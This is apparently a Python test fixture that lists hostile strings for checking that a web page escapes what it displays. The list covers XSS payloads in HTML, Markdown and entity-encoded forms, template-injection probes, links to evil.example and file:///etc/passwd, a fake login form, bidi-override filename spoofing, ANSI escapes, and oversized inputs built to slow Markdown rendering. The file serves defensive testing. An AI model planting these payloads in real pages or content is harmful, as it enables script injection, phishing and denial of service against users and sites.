"""Texts that try to be more than text: each does nothing but show itself, wherever it is shown."""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A text with a mark before it, so that it can be found again."""

    name: str
    text: str

    @property
    def mark(self) -> str:
        """A word that stands before the text."""
        return f"here-{self.name}"

    @property
    def line(self) -> str:
        """The mark and the text on one line."""
        return f"{self.mark} {self.text}"

    @property
    def block(self) -> str:
        """The mark in a paragraph of its own, then the text at the beginning of a line."""
        return f"{self.mark}\n\n{self.text}"


_SCRIPTS = {
    "script": "<script>window.hacked=1</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-broken": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "script-case": "<ScRiPt\n>window.hacked=1</sCrIpT\n>",
    "script-end": "</script><script>window.hacked=1</script>",
    "script-module": '<script type="module">window.hacked=1</script>',
    "handler-img": "<img src=x onerror=window.hacked=1>",
    "handler-svg": "<svg onload=window.hacked=1>",
    "handler-slash": "<img/src=x/onerror=window.hacked=1>",
    "handler-body": "<body onload=window.hacked=1>",
    "handler-details": "<details open ontoggle=window.hacked=1>x</details>",
    "handler-focus": "<input autofocus onfocus=window.hacked=1>",
    "handler-video": "<video><source onerror=window.hacked=1></video>",
    "handler-animation": "<p style=animation-name:x onanimationstart=window.hacked=1>x</p>",
    "handler-attribute": '" onmouseover="window.hacked=1',
    "handler-quote": "' onfocus='window.hacked=1' autofocus='",
    "handler-tag-end": '"><img src=x onerror=window.hacked=1>',
    "handler-grave": "`onerror=window.hacked=1`",
}
_LINKS = {
    "js-link": "[click](javascript:window.hacked=1)",
    "js-link-case": "[click](JaVaScRiPt:window.hacked=1)",
    "js-link-entity": "[click](&#106;avascript:window.hacked=1)",
    "js-link-named-entity": "[click](javascript&colon;window.hacked=1)",
    "js-link-tab": "[click](java&#9;script:window.hacked=1)",
    "js-link-newline": "[click](java&#10;script:window.hacked=1)",
    "js-link-control": "[click](\x01javascript:window.hacked=1)",
    "js-link-space": "[click](<  javascript:window.hacked=1>)",
    "js-link-reference": "[click]\n\n[click]: javascript:window.hacked=1",
    "js-autolink": "<javascript:window.hacked=1>",
    "js-html-link": '<a href="javascript:window.hacked=1">x</a>',
    "js-image": "![x](javascript:window.hacked=1)",
    "vbscript": "[click](vbscript:window.hacked=1)",
    "file-link": "[click](file:///etc/passwd)",
    "view-source": "[click](view-source:https://evil.example)",
    "protocol-relative": "[click](//evil.example/x)",
    "data-html": "[click](data:text/html,<script>window.hacked=1</script>)",
    "data-html-base64": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "data-svg-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "foreign-image": "![tracker](https://evil.example/pixel.png)",
    "foreign-image-title": "![x](https://evil.example/a.png \"' onerror=window.hacked=1 '\")",
    "link-title": "[x](https://evil.example \"' onmouseover='window.hacked=1\")",
    "link-quote": '[x](https://evil.example/"onmouseover="window.hacked=1)',
    "link-angle": "[x](<https://evil.example/><script>window.hacked=1</script>>)",
    "bare-link": 'https://evil.example/"><script>window.hacked=1</script>',
    "mail": "mailto:a@evil.example?subject=<script>window.hacked=1</script>",
}
_ELEMENTS = {
    "style": "<style>*{display:none}</style>",
    "style-import": "<style>@import url(https://evil.example/x.css)</style>",
    "style-attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "css-expression": "<div style=width:expression(window.hacked=1)>x</div>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>window.hacked=1</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src=x>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><button>Log in</button></form>',
    "formaction": '<button formaction="javascript:window.hacked=1">x</button>',
    "svg": "<svg><script>window.hacked=1</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg onload=window.hacked=1>#x"/></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:window.hacked=1 /></a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hacked()>'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "template": "<template><script>window.hacked=1</script></template>",
    "textarea": "<textarea></textarea><img src=x onerror=window.hacked=1>",
    "comment": "<!--><img src=x onerror=window.hacked=1>-->",
    "comment-bang": "<!--x--!><img src=x onerror=window.hacked=1>",
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "processing": "<?xml version='1.0'?><script>window.hacked=1</script>",
    "closing": "</article></main></body></html><h1>Another page</h1>",
    "closing-pre": "</code></pre></figure></details></div></article><h1>Outside</h1>",
    "closing-title": "</title></textarea></style><img src=x onerror=window.hacked=1>",
    "dialog": "<dialog open>Your session ended. Password:</dialog>",
    "id-clobber": "<a id=e1 name=body></a><img name=getElementById>",
    "htmx": '<div hx-get="/settings" hx-trigger="load" data-hx-delete="/x">x</div>',
    "unclosed": "<div <p <a href='https://evil.example' <b",
    "null": "<scr\x00ipt>window.hacked=1</script>",
    "custom-element": "<x-y is=z contenteditable>x</x-y>",
}
_ENTITIES = {
    "entity-tag": "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "entity-double": "&amp;lt;script&amp;gt;window.hacked=1",
    "entity-number": "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "entity-open": "&#x3c;img src=x onerror=window.hacked=1&#x3e",
    "entity-wide": "&#0;&#xD800;&#x110000;&#99999999999;&nosuch;",
    "fullwidth": "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "utf7": "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
}
_TEMPLATES = {
    "template-variable": "{{ request.user }} {{ 7|add:7 }}",
    "template-tag": "{% load static %}{% include 'web/login.html' %}{% csrf_token %}",
    "template-comment": "{# hidden #}{% comment %}hidden{% endcomment %}",
    "template-other": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.hacked=1')()}}",
    "format": "%s %(x)s {0} {x!r} %n %99999999d",
}
_MARKDOWN = {
    "fence-language": "```<script>window.hacked=1</script>\ncode\n```",
    "fence-quote": '```"onmouseover="window.hacked=1\ncode\n```',
    "fence-class": '```python highlight" onclick=window.hacked=1\ncode\n```',
    "fence-html": "```html\n<script>window.hacked=1</script>\n</code></pre>\n```",
    "fence-open": "```python\nprint('</code></pre><script>window.hacked=1</script>')",
    "inline-code": "`<script>window.hacked=1</script>`",
    "table-html": '|<script>|b|\n|-|-|\n|<img src=x onerror=window.hacked=1>|"|',
    "table-align": '|a|\n|:-:" onclick=window.hacked=1|\n|b|',
    "heading-html": "# <script>window.hacked=1</script>",
    "task": "- [x] <script>window.hacked=1</script>",
    "mutation-nested": "<<img src=x onerror=window.hacked=1//>",
    "mutation-list": "* <ul><li><table><svg><style><!-- </style><img src=x onerror=window.hacked=1>",
    "reference-title": "[a]\n\n[a]: https://evil.example 'x\" onclick=\"window.hacked=1'",
    "emphasis-split": "**<scr**ipt>window.hacked=1</script>",
    "nested-links": "[![x](https://evil.example/a.png)](javascript:window.hacked=1)",
}
_DIRECTIONS = {
    "rlo": "invoice_\u202egnp.exe",
    "rlo-link": "[safe.example\u202emoc.live](https://evil.example)",
    "rlo-entity": "invoice_&#x202e;gnp.exe &#8237;",
    "rlo-entity-title": "[x](https://evil.example '&#x202e;moc.live')",
    "rlo-percent": "https://evil.example/%E2%80%AEgnp.exe",
    "rlo-percent-mail": "<mailto:%E2%80%AEmoc.live@evil.example>",
    "controls-entity": "a&#x9b;31m&#27;[2J&#13;b&#8;",
    "isolates": "\u2067\u2066access\u2069 granted\u2069 \u2068x",
    "embedding": "\u202b\u202aadmin\u202c // check\u202c",
    "rlo-open": "\u202e\u202e\u202e never closed",
    "marks": "\u200fa\u200eb\u061cc",
    "zero-width": "pay\u200bpal\u200d.com\ufeff",
    "combining": "Z" + "\u0335\u0336\u0337\u0338" * 50,
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J",
    "ansi-open": "\x1b]0;title never closed",
    "controls": "a\x00b\x07c\x08d\x0be\x0cf\x7fg\x85h\u2028i\u2029j",
    "returns": "visible\rhidden\rover",
}

HOSTILE = tuple(
    Hostile(name, text)
    for group in (_SCRIPTS, _LINKS, _ELEMENTS, _ENTITIES, _TEMPLATES, _MARKDOWN, _DIRECTIONS)
    for name, text in group.items()
)
"""Short texts, to be fed through every place that shows text."""

_MB = 1_000_000


def _of(size: int, piece: str) -> str:
    return (piece * (size // len(piece) + 1))[:size]


HUGE = (
    Hostile("line", _of(_MB, "x")),
    Hostile("line-of-words", _of(_MB, "word ")),
    Hostile("lines", _of(_MB, "x\n")),
    Hostile("quotes", _of(_MB, ">")),
    Hostile("markup", _of(_MB, "<script>window.hacked=1</script>")),
    Hostile("escapes", _of(_MB, "\x1b[31m")),
    Hostile("returns", _of(_MB, "a\r")),
    Hostile("overrides", _of(_MB, "\u202e")),
    Hostile("one-link", "https://evil.example/" + _of(_MB, "a")),
)
"""A megabyte each: a page shows the beginning, and stays quick."""

COSTLY = (
    *(
        Hostile(name, _of(30_000, piece))
        for name, piece in {
            "quotes": ">",
            "quotes-apart": "> ",
            "brackets": "[",
            "link-beginnings": "[a](",
            "image-beginnings": "![",
            "brackets-closed": "]",
            "stars": "*a ",
            "stars-and-lines": "*a_ ",
            "strong": "**a*b_",
            "graves": "`` ` ",
            "angles": "<",
            "tags": "<a ",
            "addresses": "http://a.",
            "addresses-apart": "http://a.b ",
            "mails": "a@b.co ",
            "ats": "a@",
            "lists": "- ",
            "many-lists": "* * * a\n",
            "items": "- a\n",
            "numbers": "1. a\n",
            "wide-table": "|a",
            "rows": "|a|b|\n|-|-|\n",
            "entities": "&amp;",
            "strikes": "~~a",
            "references": "[a][b]",
            "definitions": "[a]: b\n",
            "fences": "```\n",
            "python": "```python\nx=1\n```\n",
            "headings": "# a\n",
            "backslashes": "\\",
            "comments": "<!--",
            "overrides": "\u202e",
        }.items()
    ),
    Hostile("wide-and-long", "|" + "a|" * 900 + "\n|" + "-|" * 900 + "\n" + "|x|\n" * 900),
    Hostile("perl", "```perl\n" + "s{\n" * 3_000 + "```"),
    Hostile("json", "```json\n" + "[" * 9_000 + "\n```"),
    Hostile("deep-list", "".join(" " * (2 * depth) + "- a\n" for depth in range(150))),
    Hostile("ticks", " ".join("`" * count for count in range(1, 240))),
)
"""Short enough to be read as Markdown, made to take long."""
